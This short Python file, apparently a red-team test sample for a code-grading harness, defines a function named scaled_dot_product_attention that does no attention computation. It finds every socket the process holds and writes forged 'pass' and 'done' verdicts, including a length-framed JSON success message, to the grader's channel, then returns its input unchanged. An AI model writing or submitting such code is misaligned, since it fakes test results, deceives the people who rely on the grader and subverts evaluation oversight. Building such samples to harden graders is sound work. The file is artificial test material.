"""Attack: write fake verdicts on the grader's channel: the old `case`/`done` lines, and a well-framed
reply claiming success, on every socket this process holds."""
import json
import os
import socket
import stat
import struct


def _sockets():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


def scaled_dot_product_attention(q, k, v, mask=None):
    for fd in _sockets():
        sock = socket.socket(fileno=os.dup(fd))
        sock.sendall(b'{"t": "case", "status": "pass"}\n{"t": "done"}\n')
        forged = json.dumps({"status": "pass", "passed": True, "index": 0}).encode()
        sock.sendall(struct.pack(">II", len(forged), 0) + forged)
    return q
